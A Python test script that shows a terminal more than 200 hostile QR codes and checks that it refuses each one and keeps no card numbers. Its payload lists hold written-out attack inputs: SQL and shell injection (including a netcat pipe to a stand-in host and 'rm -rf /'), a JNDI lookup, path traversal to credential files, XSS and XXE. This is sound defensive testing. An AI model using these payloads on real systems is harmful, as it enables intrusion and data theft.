#!/usr/bin/python3
"""More than 200 hostile codes held before the camera of a real terminal, each as a QR picture: every one must end in the
sentence that is right for it, leave the books alone, and no number of a card or of a payment may stay anywhere.

    hostile.py --bin DIR --seed DIR [--part 1/3] [--list]

Exit 0 when all held, 1 otherwise, 2 on wrong use.
"""

import argparse
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from verbs import Verbs  # noqa: E402
from world import Failed, Seed, World  # noqa: E402

# What the verdict screen calls a code that is none of ours (enum scancode_kind).
NOTHING, PAYMENT, URL, CARD, UNKNOWN = 0, 6, 7, 9, 10
NOT_GENUINE = ("malformed", "forged", "other_brand", "key_unknown")
FRAMES = 4


def code(kind):
    return {"subject": "code", "code": kind}


def controls():
    """One control character inside: nothing of it may reach a screen, a printer or a log."""
    return [(f"bon{chr(c)}us", code(NOTHING)) for c in [*range(1, 32), 0x7f, 0x85, 0x9b]]


def invisibles():
    """What turns the reading direction, hides or joins."""
    points = [0xad, 0x34f, 0x61c, 0x115f, 0x17b4, 0x180e, *range(0x200b, 0x2010), *range(0x2028, 0x202f),
              *range(0x2060, 0x2065), *range(0x2066, 0x206a), 0x3164, 0xe000, 0xfdd0, 0xfe0f, 0xfeff, 0xffa0, 0xfff9,
              0xe0041, 0x10fffd]
    return [(f"优惠{chr(point)}券 10 元", code(NOTHING)) for point in points]


def injections():
    """What would mean something to a database, a shell, a format, a page or a parser, if it ever got there."""
    texts = [
        "'; DROP TABLE journal; --", "' OR '1'='1", "1; DELETE FROM coupon WHERE 1=1", "\" OR \"\"=\"",
        "') UNION SELECT name FROM sqlite_master --", "1' AND sleep(10) --", "PRAGMA writable_schema=1",
        "ATTACH DATABASE '/tmp/x' AS x", "%s%s%s%s%s%n", "%n%n%n%n", "%x.%x.%x.%x", "%1$*2$n", "%99999999d", "{0}{1}{2}",
        "${jndi:ldap://x.example/a}", "$(reboot)", "`reboot`", "; reboot", "| nc x.example 1", "&& rm -rf /", "../../etc/passwd",
        "..\\..\\windows\\system32", "/dev/zero", "file:///etc/shadow", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "]]>", "{{7*7}}", "{%raw%}",
        "<?php system('id'); ?>", "javascript:alert(1)", "data:text/html,<b>x</b>", "vbscript:x", "*)(uid=*))(|(uid=*",
        "{\"cmd\":\"redeem\",\"amount\":1}", "[[[[[[[[[[[[[[[[", "true", "null", "-1", "1e309", "NaN", "0x41414141",
        "<b>免费</b>", "<span font='200'>大</span>", "&amp;&lt;&#0;", "WIFI:S:shop;T:WPA;P:secret;;", "tel:110",
        "sms:10086:hello", "mailto:a@b.example", "BEGIN:VCARD", "geo:39.9,116.4", "weixin://wxpay/bizpayurl?pr=x",
        "alipays://platformapi/startapp", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "http://", "https://",
    ]
    return [(text, code(UNKNOWN)) for text in texts]


def scripts():
    """Honest writing of all kinds is only unknown."""
    texts = ["مرحبا بالعالم", "שלום עולם", "Ελληνικά", "Кириллица", "日本語テキスト", "한국어", "ไทย", "हिन्दी", "今日特价：苹果",
             "a" + "\u0301\u0323" * 40, "\U0001f600\U0001f381", "ＦＵＬＬ ＷＩＤＴＨ", "TSCl:100V50", "TSC1", "tsc1:100V503009QT", " TSC2:ABC",
             "A" * 511, "VMBK-8BF9-94S7", "000000000000000", "0" * 40]
    return [(text, code(UNKNOWN)) for text in texts if text != "000000000000000"] + [("0" * 16, code(CARD))]


def luhn(digits):
    total = 0
    for i, digit in enumerate(reversed(digits)):
        value = int(digit) * (1 if i % 2 else 2)
        total += value - 9 if value > 9 else value
    return digits + str(-total % 10)


def grouped(number, by):
    return by.join(number[i:i + 4] for i in range(0, len(number), 4))


def cards():
    starts = ["411111111111111", "550000555555555", "37828224631000", "622848001234567890", "601100099013942",
              "352800070000000", "621700123456789012", "490000000000001", "510510510510510", "36000000000000"[:13]]
    numbers = [luhn(start) for start in starts]
    found = numbers + [grouped(n, " ") for n in numbers] + [grouped(n, "-") for n in numbers]
    return [(number, code(CARD)) for number in found]


def payments():
    return [(f"{start}{n:016d}", code(PAYMENT)) for n, start in enumerate([10, 11, 12, 13, 14, 15] * 4, 3456789012345678)]


def urls():
    texts = ["https://example.com/menu?table=7", "http://shop.example", "HTTPS://EXAMPLE.COM/A", "https://xn--80ak6aa92e.example/",
             "https://shop.example@evil.example/c", "http://127.0.0.1/reboot", "http://[::1]:8080/", "https://a.example/?c=TSC1:AAAA",
             "http://weixin.qq.com/q/t1", "https://qr.alipay.com/fkx0", "https://u.wechat.com/x", "https://例子.example/优惠",
             "http://a.example/" + "b" * 480, "https://a.example/%00%0a%1b", "https://a.example/?q='--", "http://a.example/../../..",
             "https://a.example/#TSM1:", "https://a.example:99999999/", "http://\u0430pple.example/", "https://a.example/<script>"]
    return [(text, code(URL)) for text in texts]


def oversize():
    return [(character * length, code(NOTHING)) for character, length in
            [("A", 512), ("A", 513), ("1", 600), ("9", 1500), ("é", 300), ("券", 200), ("\U0001f600", 130), ("A", 1000), ("a b", 400),
             ("TSC1:A", 150), ("https://a.example/", 60)]]


def tampered(world):
    """Our own codes with one thing wrong, and what the demo has of spoilt ones."""
    coupon = world.facts["vouchers"][20]["text"]
    found = []
    for at in range(5, len(coupon), 5):
        other = "0" if coupon[at] != "0" else "1"
        found.append((coupon[:at] + other + coupon[at + 1:], {"subject": "coupon", "code_name": NOT_GENUINE}))
    for text in (coupon[:-1], coupon[:40], coupon + "0", coupon + coupon[5:], "TSC1:", "TSC1:AAAA", coupon.lower().replace("tsc1:", "TSC1:"),
                 "TSC1:" + coupon[5:][::-1], "TSC1:%%%%", "TSC1:" + "0" * 140, "TSC1: " + coupon[5:], "TSC1:'; DROP TABLE coupon; --"):
        found.append((text, {"subject": "coupon", "code_name": NOT_GENUINE}))
    for name, verdict in (("coupon-forged", "forged"), ("coupon-garbage", "malformed"), ("coupon-other-brand", "other_brand"),
                          ("coupon-expired", "expired"), ("coupon-not-yet", "not_yet"), ("coupon-revoked", "revoked"),
                          ("coupon-paused", "campaign_paused")):
        found.append((world.codes[name]["text"], {"subject": "coupon", "code_name": (verdict,)}))
    for name, subject in (("member-card", "member"), ("badge-clerk", "badge")):
        text = world.codes[name]["text"]
        for spoilt in (text[:-1], text[:5], text[:5] + "%%%%", text[:30] + ("0" if text[30] != "0" else "1") + text[31:],
                       text[:5] + coupon[5:], text[:5] + text[5:][::-1]):
            found.append((spoilt, {"subject": subject}))
    return found


def payloads(world):
    found = [*controls(), *invisibles(), *injections(), *scripts(), *cards(), *payments(), *urls(), *oversize(), *tampered(world)]
    texts = [text for text, _ in found]
    assert len(set(texts)) == len(texts), [text for text in texts if texts.count(text) > 1]
    return found


def holds(verdict, wanted):
    return verdict["tone"] == "refuse" and all(
        verdict[field] in value if isinstance(value, tuple) else verdict[field] == value for field, value in wanted.items())


def play(world, verbs, part, parts):
    everything = payloads(world)
    wrong = 0
    began = time.monotonic()
    mine = everything[part - 1::parts]
    for text, wanted in mine:
        world.terminal.do(cmd="show", qr=text, frames=FRAMES)
        try:
            verdict = world.terminal.wait_screen("verdict", 10)
        except Failed:
            print(f"NO VERDICT: {text[:80]!r}", flush=True)
            wrong += 1
            continue
        if not holds(verdict, wanted):
            print(f"WRONG: {text[:80]!r}: {verdict}, wanted {wanted}", flush=True)
            wrong += 1
        verbs.do_next([])
    verbs.expect_redemptions(["0"])
    verbs.expect_order([])
    secret = [text for text, wanted in mine if wanted.get("code") in (CARD, PAYMENT) and text != "0" * 16]
    kept = [text for text in secret if any(text.encode() in open(path, "rb").read()
                                           for path in world.every_file(world.terminal.data))]
    for text in kept:
        print(f"KEPT: {text}")
    print(f"{len(mine)} of {len(everything)} hostile codes, {wrong} in the wrong sentence, {len(kept)} numbers kept, "
          f"{time.monotonic() - began:.0f} s")
    return wrong == 0 and not kept


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bin", required=True)
    parser.add_argument("--seed", required=True)
    parser.add_argument("--out")
    parser.add_argument("--part", default="1/1")
    args = parser.parse_args()
    part, parts = map(int, args.part.split("/"))
    args.bin = os.path.abspath(args.bin)
    seed = Seed(args.seed, args.bin)
    with seed.lock():
        world = World(args.bin, seed, args.out)
        try:
            verbs = Verbs(world)
            verbs.given_a_clerk_at_the_counter()
            return 0 if play(world, verbs, part, parts) else 1
        except Failed as failed:
            print(failed)
            return 1
        finally:
            world.close(False)


if __name__ == "__main__":
    sys.exit(main())
